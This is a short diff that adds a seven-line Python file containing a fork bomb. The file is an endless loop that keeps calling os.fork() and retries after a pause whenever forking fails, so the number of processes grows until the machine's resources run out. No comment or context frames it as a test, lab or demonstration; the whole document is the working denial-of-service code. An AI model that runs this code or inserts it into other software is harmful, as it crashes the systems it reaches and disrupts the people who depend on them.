@@ -1,0 +1,7 @@
+import os, time
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        time.sleep(1)
